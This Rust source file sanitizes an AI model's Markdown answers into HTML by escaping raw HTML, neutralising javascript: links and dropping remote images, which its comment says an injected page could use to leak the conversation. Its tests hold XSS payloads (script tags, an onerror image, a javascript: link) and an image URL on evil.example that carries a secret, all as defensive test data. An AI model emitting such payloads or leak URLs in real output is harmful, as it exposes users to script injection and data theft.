//! Model answers as Markdown → HTML that is safe to insert: no raw HTML, no script URLs, no
//! remote images (an injected page could use one to leak the conversation).

use pulldown_cmark::{html, CowStr, Event, Options, Parser, Tag, TagEnd};

pub fn render(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut in_image = false;
    let events = Parser::new_ext(markdown, options).filter_map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Some(Event::Text(raw)),
        Event::Start(Tag::Link { link_type, dest_url, title, id }) => {
            let dest_url = if safe_url(&dest_url) { dest_url } else { CowStr::Borrowed("#") };
            Some(Event::Start(Tag::Link { link_type, dest_url, title, id }))
        }
        Event::Start(Tag::Image { .. }) => {
            in_image = true;
            None
        }
        Event::End(TagEnd::Image) => {
            in_image = false;
            None
        }
        Event::Text(t) if in_image => Some(Event::Text(format!("[image: {t}]").into())),
        other => Some(other),
    });
    let mut out = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut out, events);
    out
}

fn safe_url(url: &str) -> bool {
    let lower = url.trim().to_ascii_lowercase();
    ["http://", "https://", "mailto:", "#"].iter().any(|p| lower.starts_with(p))
}

#[cfg(test)]
mod tests {
    use super::render;

    #[test]
    fn raw_html_is_shown_as_text() {
        let out = render("Hi <script>alert(1)</script> <img src=x onerror=alert(1)>");
        assert!(!out.contains("<script") && !out.contains("<img"), "{out}");
        assert!(out.contains("&lt;script&gt;"), "{out}");
    }

    #[test]
    fn code_blocks_and_tables_render() {
        let out = render("```rust\nfn main() {}\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
        assert!(out.contains("<pre><code class=\"language-rust\">fn main() {}"), "{out}");
        assert!(out.contains("<table>") && out.contains("<td>2</td>"), "{out}");
    }

    #[test]
    fn script_links_and_remote_images_are_defused() {
        let out = render("[x](javascript:alert(1)) [ok](https://a.example/) ![cat](https://evil.example/leak?q=secret)");
        assert!(out.contains("href=\"#\"") && out.contains("href=\"https://a.example/\""), "{out}");
        assert!(!out.contains("evil.example") && out.contains("[image: cat]"), "{out}");
    }
}
